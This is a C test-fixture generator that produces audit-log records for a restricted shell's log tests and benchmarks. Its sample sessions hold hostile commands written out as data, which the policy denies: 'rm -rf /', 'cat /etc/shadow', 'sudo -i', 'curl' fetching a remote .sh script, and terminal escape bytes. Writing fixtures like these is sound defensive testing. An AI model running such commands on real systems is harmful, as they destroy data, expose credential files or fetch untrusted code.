/*
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Audit records for tests/test-log.sh and bench/log-speed.sh, made by
 * the real formatter (audit_format), with the time of each set by hand
 * (it is the fixed-width first field) so that time filters can be
 * tested:
 *	log-gen fixture		a few sessions, hostile values in them
 *	log-gen bulk N [SEED]	N records of many sessions
 */
#include <sys/types.h>

#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "audit.h"
#include "xmalloc.h"

#define TIME_AT		9	/* {"time":" */
#define TIME_LEN	24	/* 2026-03-01T10:00:00.000Z */

static long long clock_ms;	/* the time of the next record */

static void
emit(const struct audit_ident *id, const struct arecord *r, size_t cap)
{
	struct sbuf j, kv;
	struct tm tm;
	time_t t = (time_t)(clock_ms / 1000);
	char when[TIME_LEN + 16];

	sbuf_init(&j);
	sbuf_init(&kv);
	audit_format(id, r, cap, &j, &kv);
	gmtime_r(&t, &tm);
	strftime(when, sizeof(when), "%Y-%m-%dT%H:%M:%S", &tm);
	snprintf(when + 19, sizeof(when) - 19, ".%03dZ",
	    (int)(clock_ms % 1000));
	if (j.len > TIME_AT + TIME_LEN)
		memcpy(j.s + TIME_AT, when, TIME_LEN);
	fwrite(j.s, 1, j.len, stdout);
	sbuf_free(&j);
	sbuf_free(&kv);
}

static struct aval
av(const char *s)
{
	struct aval v;

	memset(&v, 0, sizeof(v));
	v.s = s;
	v.len = s != NULL ? strlen(s) : 0;
	return v;
}

static void
rec_init(struct arecord *r, enum audit_event ev)
{
	memset(r, 0, sizeof(*r));
	r->ev = ev;
	r->duration_ms = -1;
}

static void
start(const struct audit_ident *id, const char *warning)
{
	struct arecord r;

	rec_init(&r, AE_SESSION_START);
	if (warning != NULL)
		r.warning = av(warning);
	emit(id, &r, AUDIT_RECORD_DEFAULT);
}

static void
end(const struct audit_ident *id, int status, const char *reason, int sig,
    long killed)
{
	struct arecord r;

	rec_init(&r, AE_SESSION_END);
	r.has_status = 1;
	r.status = status;
	r.signal = sig;
	r.killed = killed;
	if (reason != NULL)
		r.reason = av(reason);
	emit(id, &r, AUDIT_RECORD_DEFAULT);
}

static void
refused(const struct audit_ident *id, const char *reason)
{
	struct arecord r;

	rec_init(&r, AE_SESSION_REFUSED);
	r.reason = av(reason);
	emit(id, &r, AUDIT_RECORD_DEFAULT);
}

/* A command: argv from a NULL-ended list. */
static void
cmd(struct acmd *c, enum verdict v, const char *why, const char **argv,
    struct aredir *redirs, size_t nredirs)
{
	size_t n;

	memset(c, 0, sizeof(*c));
	for (n = 0; argv[n] != NULL; n++)
		;
	c->argv = xcalloc(n + 1, sizeof(*c->argv));
	for (c->argc = 0; c->argc < n; c->argc++)
		c->argv[c->argc] = av(argv[c->argc]);
	c->redirs = redirs;
	c->nredirs = nredirs;
	c->verdict = v;
	c->why = av(why);
}

static void
exec_rec(const struct audit_ident *id, long line_no, long cmd_no,
    const char *cwd, const struct acmd *c, size_t cap)
{
	struct arecord r;

	rec_init(&r, AE_EXEC);
	r.line_no = line_no;
	r.cmd_no = cmd_no;
	r.cwd = av(cwd);
	r.cmds = c;
	r.ncmds = 1;
	emit(id, &r, cap);
}

static void
line_rec(const struct audit_ident *id, long line_no, const char *cwd,
    const char *line, const struct acmd *cmds, size_t n,
    enum audit_verdict v, int has_status, int status, long dur,
    const char *reason, size_t cap)
{
	struct arecord r;

	rec_init(&r, AE_COMMAND);
	r.line_no = line_no;
	r.cwd = av(cwd);
	r.line = av(line);
	r.cmds = cmds;
	r.ncmds = n;
	r.verdict = v;
	r.has_status = has_status;
	r.status = status;
	r.duration_ms = dur;
	if (reason != NULL)
		r.reason = av(reason);
	emit(id, &r, cap);
}

static void
ended(struct acmd *c, int status, long ms)
{
	c->ended = 1;
	c->status = status;
	c->duration_ms = ms;
}

static void
cmds_free(struct acmd *c, size_t n)
{
	size_t i;

	for (i = 0; i < n; i++)
		free(c[i].argv);
}

static long long
at(const char *iso)	/* "2026-03-01T10:00:00" + ms */
{
	struct tm tm;

	memset(&tm, 0, sizeof(tm));
	strptime(iso, "%Y-%m-%dT%H:%M:%S", &tm);
	return (long long)timegm(&tm) * 1000;
}

static void
fixture(void)
{
	static const char long_word_fill = 'A';
	struct audit_ident a = { "aaaa1111000000000000000000000001", "deploy",
	    1001, "192.0.2.10 50022", "command", NULL };
	struct audit_ident b = { "bbbb2222000000000000000000000002", "alice",
	    1002, "198.51.100.7 40000", "interactive", NULL };
	struct audit_ident c = { "cccc3333000000000000000000000003", "deploy",
	    1001, "local", "forced", NULL };
	struct audit_ident d = { "dddd4444000000000000000000000004", "mallory",
	    1003, "203.0.113.9 2222", "command", NULL };
	struct audit_ident e = { "aaaa1112000000000000000000000005", "bob",
	    1004, "192.0.2.11 50100", "command", NULL };
	struct aredir out = { 1, ">", { "out.txt", 7, 0, NULL } };
	struct aredir dup = { 2, ">&", { "1", 1, 0, NULL } };
	const char *git[] = { "git", "pull", "origin", "main", NULL };
	const char *rake[] = { "RAILS_ENV=production", "/usr/bin/bundle",
	    "exec", "rake", "db:migrate", NULL };
	const char *rm[] = { "rm", "-rf", "/", NULL };
	const char *echo[] = { "echo", "hi", NULL };
	const char *evil[] = { "echo", "\x1b[31mred", "\xc2\x9b" "2J", "\xff",
	    "\\x41", "two words", NULL };
	const char *ls[] = { "ls", NULL };
	const char *cat[] = { "cat", "/etc/shadow", NULL };
	const char *upload[] = { "git-upload-pack", "/srv/repo.git", NULL };
	const char *sudo[] = { "sudo", "-i", NULL };
	const char *big[] = { "echo", NULL, NULL };
	struct acmd k[2];
	char *word;

	/* a: a deploy, two commands, the second fails */
	clock_ms = at("2026-03-01T10:00:00");
	start(&a, NULL);
	clock_ms += 5;
	cmd(&k[0], V_ALLOW, "git pull (/etc/cagesh.conf:12)", git, &out, 1);
	cmd(&k[1], V_ALLOW, "bundle exec (/etc/cagesh.conf:20)", rake, NULL, 0);
	exec_rec(&a, 1, 1, "/var/www/app", &k[0], AUDIT_RECORD_DEFAULT);
	clock_ms += 120;
	exec_rec(&a, 1, 2, "/var/www/app", &k[1], AUDIT_RECORD_DEFAULT);
	ended(&k[0], 0, 118);
	ended(&k[1], 1, 2000);
	clock_ms += 2010;
	line_rec(&a, 1, "/var/www/app", "git pull origin main >out.txt && "
	    "RAILS_ENV=production /usr/bin/bundle exec rake db:migrate", k, 2,
	    AV_ALLOW, 1, 1, 2135, NULL, AUDIT_RECORD_DEFAULT);
	cmds_free(k, 2);
	clock_ms += 3;
	end(&a, 1, NULL, 0, 0);

	/* b: interactive: a judged denial, hostile bytes, partial, a cut */
	clock_ms = at("2026-03-01T11:00:00");
	start(&b, "landlock: not supported by this kernel");
	clock_ms += 1000;
	cmd(&k[0], V_DENY, "rm: no rule for this program", rm, NULL, 0);
	cmd(&k[1], V_ALLOW, "builtin echo", echo, NULL, 0);
	line_rec(&b, 1, "/home/alice", "rm -rf / ; echo hi", k, 2, AV_DENY, 0,
	    0, 1, NULL, AUDIT_RECORD_DEFAULT);
	cmds_free(k, 2);
	clock_ms += 1000;
	cmd(&k[0], V_ALLOW, "builtin echo", evil, &dup, 1);
	exec_rec(&b, 2, 1, "/home/alice", &k[0], AUDIT_RECORD_DEFAULT);
	ended(&k[0], 0, 0);
	clock_ms += 1;
	line_rec(&b, 2, "/home/alice", "echo \x1b[31mred \xc2\x9b" "2J "
	    "\xff \\x41 'two words' 2>&1", k, 1, AV_ALLOW, 1, 0, 1, NULL,
	    AUDIT_RECORD_DEFAULT);
	cmds_free(k, 1);
	clock_ms += 1000;
	cmd(&k[0], V_ALLOW, "ls (/etc/cagesh.conf:30)", ls, NULL, 0);
	cmd(&k[1], V_DENY, "cat: /etc/shadow: outside the allowed paths", cat,
	    NULL, 0);
	exec_rec(&b, 3, 2, "/home/alice", &k[0], AUDIT_RECORD_DEFAULT);
	clock_ms += 10;
	exec_rec(&b, 3, 3, "/home/alice", &k[1], AUDIT_RECORD_DEFAULT);
	ended(&k[0], 0, 9);
	clock_ms += 1;
	line_rec(&b, 3, "/home/alice", "ls; cat /etc/shadow", k, 2,
	    AV_PARTIAL, 1, 126, 12, NULL, AUDIT_RECORD_DEFAULT);
	cmds_free(k, 2);
	clock_ms += 1000;
	word = xmalloc(10001);
	memset(word, long_word_fill, 10000);
	word[10000] = '\0';
	big[1] = word;
	cmd(&k[0], V_ALLOW, "builtin echo", big, NULL, 0);
	exec_rec(&b, 4, 4, "/home/alice", &k[0], AUDIT_RECORD_MIN);
	ended(&k[0], 0, 0);
	clock_ms += 1;
	line_rec(&b, 4, "/home/alice", "echo AAAA...", k, 1, AV_ALLOW, 1, 0,
	    1, NULL, AUDIT_RECORD_DEFAULT);
	cmds_free(k, 1);
	free(word);
	clock_ms += 500;
	end(&b, 137, "killed by signal 9", 9, 2);

	/* c: a forced git fetch; the session is lost */
	clock_ms = at("2026-03-02T09:30:00");
	start(&c, NULL);
	cmd(&k[0], V_ALLOW, "git-upload-pack (/etc/cagesh.conf:40)", upload,
	    NULL, 0);
	clock_ms += 2;
	exec_rec(&c, 1, 1, "/var/www/app", &k[0], AUDIT_RECORD_DEFAULT);
	ended(&k[0], 0, 300);
	clock_ms += 301;
	line_rec(&c, 1, "/var/www/app", "git-upload-pack '/srv/repo.git'", k,
	    1, AV_ALLOW, 1, 0, 302, NULL, AUDIT_RECORD_DEFAULT);
	cmds_free(k, 1);
	clock_ms += 1;
	end(&c, 1, "lost: the session's root process went away", 0, 0);

	/* d: refused */
	clock_ms = at("2026-03-02T12:00:00");
	refused(&d, "mallory: no user entry in /etc/cagesh.conf");

	/* e: a prefix shared with a; sudo denied; the time limit ends it */
	clock_ms = at("2026-03-03T08:00:00");
	start(&e, NULL);
	clock_ms += 100;
	cmd(&k[0], V_DENY, "sudo: no rule for this program", sudo, NULL, 0);
	line_rec(&e, 1, "/home/bob", "sudo -i", k, 1, AV_DENY, 0, 0, 0, NULL,
	    AUDIT_RECORD_DEFAULT);
	cmds_free(k, 1);
	clock_ms += 3600000;
	end(&e, 143, "session time limit", 0, 1);
}

/* A small reproducible generator (xorshift64*). */
static uint64_t seed = 0x9e3779b97f4a7c15ull;

static uint64_t
rnd(void)
{
	seed ^= seed >> 12;
	seed ^= seed << 25;
	seed ^= seed >> 27;
	return seed * 0x2545f4914f6cdd1dull;
}

static void
bulk(unsigned long long n)
{
	static const char *const progs[][5] = {
		{ "git", "fetch", "origin", NULL },
		{ "/usr/bin/bundle", "exec", "rake", "assets:precompile" },
		{ "ls", "-la", "/var/www/app/releases", NULL },
		{ "cat", "/var/www/app/shared/log/production.log", NULL },
		{ "rsync", "--server", "-logDtpre.iLsfxC", ".", "/srv/app" },
		{ "tar", "-xzf", "release.tar.gz", NULL },
		{ "ln", "-sfn", "/var/www/app/releases/20260301", "current" },
	};
	static const char *const denied[][3] = {
		{ "sudo", "-i", NULL },
		{ "bash", "-c", "id" },
		{ "curl", "http://198.51.100.1/x.sh", NULL },
	};
	static const char *const reasons[] = {
		"sudo: no rule for this program",
		"bash: no rule for this program",
		"curl: no rule for this program",
	};
	const size_t nprogs = sizeof(progs) / sizeof(progs[0]);
	unsigned long long made = 0;
	struct audit_ident id;
	struct acmd k[2];
	char sess[33], user[16], from[40], line[256];
	const char *argv[6];
	const char *const *src;
	long line_no, cmd_no, lines, i;
	size_t p, w, max;
	int deny;

	clock_ms = at("2026-01-01T00:00:00");
	while (made < n) {
		snprintf(sess, sizeof(sess), "%016llx%016llx",
		    (unsigned long long)rnd(), (unsigned long long)rnd());
		snprintf(user, sizeof(user), "deploy%02u",
		    (unsigned)(rnd() % 50));
		snprintf(from, sizeof(from), "10.%u.%u.%u %u",
		    (unsigned)(rnd() % 4), (unsigned)(rnd() % 256),
		    (unsigned)(rnd() % 256), 1024 + (unsigned)(rnd() % 60000));
		id.session = sess;
		id.user = user;
		id.uid = 2000 + (uid_t)(rnd() % 50);
		id.from = from;
		id.mode = "command";
		clock_ms += (long long)(rnd() % 5000);
		if (rnd() % 100 == 0) {
			refused(&id, "account expired");
			made++;
			continue;
		}
		start(&id, NULL);
		made++;
		lines = 1 + (long)(rnd() % 8);
		for (line_no = 1, cmd_no = 1; line_no <= lines && made < n;
		    line_no++) {
			deny = rnd() % 20 == 0;
			p = (size_t)(rnd() % nprogs);
			src = deny ? denied[p % 3] : progs[p];
			max = deny ? 3 : 5;
			memset(argv, 0, sizeof(argv));
			for (w = 0; w < max && src[w] != NULL; w++)
				argv[w] = src[w];
			line[0] = '\0';
			for (i = 0; i < (long)w; i++) {
				strcat(line, i ? " " : "");
				strcat(line, argv[i]);
			}
			cmd(&k[0], deny ? V_DENY : V_ALLOW, deny ?
			    reasons[p % 3] : "rule (/etc/cagesh.conf:12)",
			    argv, NULL, 0);
			clock_ms += (long long)(rnd() % 200);
			if (!deny) {
				exec_rec(&id, line_no, cmd_no++, "/var/www/app",
				    &k[0], AUDIT_RECORD_DEFAULT);
				made++;
				ended(&k[0], rnd() % 10 == 0,
				    (long)(rnd() % 3000));
			}
			if (made >= n) {
				cmds_free(k, 1);
				break;
			}
			clock_ms += k[0].duration_ms + 1;
			line_rec(&id, line_no, "/var/www/app", line, k, 1,
			    deny ? AV_DENY : AV_ALLOW, !deny, k[0].status,
			    k[0].duration_ms + 1, NULL, AUDIT_RECORD_DEFAULT);
			made++;
			cmds_free(k, 1);
		}
		if (made < n) {
			clock_ms += (long long)(rnd() % 100);
			end(&id, 0, rnd() % 50 == 0 ? "signal" : NULL, 0, 0);
			made++;
		}
	}
}

int
main(int argc, char *argv[])
{
	if (argc == 2 && strcmp(argv[1], "fixture") == 0)
		fixture();
	else if ((argc == 3 || argc == 4) && strcmp(argv[1], "bulk") == 0) {
		if (argc == 4)
			seed = strtoull(argv[3], NULL, 0) | 1;
		bulk(strtoull(argv[2], NULL, 10));
	} else {
		fprintf(stderr, "usage: log-gen fixture | bulk N [SEED]\n");
		return 2;
	}
	return fflush(stdout) == 0 ? 0 : 1;
}
